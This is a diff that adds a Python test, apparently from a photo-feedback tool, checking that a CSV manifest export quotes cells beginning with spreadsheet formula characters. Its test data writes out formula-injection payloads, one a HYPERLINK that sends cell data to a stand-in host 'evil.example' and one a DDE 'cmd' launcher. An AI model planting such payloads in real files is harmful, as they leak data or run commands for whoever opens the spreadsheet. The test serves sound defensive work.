@@ -245,3 +245,44 @@ def test_folder_names_are_safe_and_distinct() -> None:
         assert len(name) <= 130
         if name != label:
             assert name.endswith(hashlib.sha256(label.encode()).hexdigest()[:8])
+
+
+def test_manifest_cells_never_start_a_spreadsheet_formula(tmp_path: Path) -> None:
+    """Labels users typed (and models trained on them) reach the manifest as text: a leading
+    = + - @ (or tab, CR) gets a quote, and no label folder starts with one either."""
+    data_dir = tmp_path / "data"
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)"]
+    store = FeedbackStore.open(data_dir)
+    try:
+        for number, label in enumerate(hostile):
+            record = store.record_prediction(
+                AnsweredPhoto(
+                    chat_id=1,
+                    user_id=42,
+                    message_id=number,
+                    file_id="f",
+                    file_unique_id="u",
+                    # A model retrained on typed labels predicts them too.
+                    prediction=Prediction((LabelScore("=cmd|' /C calc'!A0", 0.9),), "=m", 1, 1),
+                    uncertain=False,
+                )
+            )
+            image = images.encode(images.noise(40, 40, seed=100 + number), "PNG")
+            store.record_verdict(record.id, user_id=42, kind="wrong", label=label, image=image)
+    finally:
+        store.close()
+    out = tmp_path / "export"
+    result = run_cli("export-feedback", str(out), "--data-dir", str(data_dir))
+    assert result.returncode == 0, result.stderr
+
+    with open(out / MANIFEST_NAME, newline="", encoding="utf-8") as file:
+        rows = list(csv.DictReader(file))
+    assert [row["corrected"] for row in rows] == ["'" + label for label in hostile]
+    assert {row["predicted"] for row in rows} == {"'=cmd|' /C calc'!A0"}
+    assert {row["model_version"] for row in rows} == {"'=m"}
+    for row in rows:
+        for column, cell in row.items():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
+        # The image column is still the file's true path (its folder starts with "_").
+        assert (out / row["image"]).is_file(), row["image"]
+    assert all(path.name.startswith("_") for path in out.iterdir() if path.is_dir())
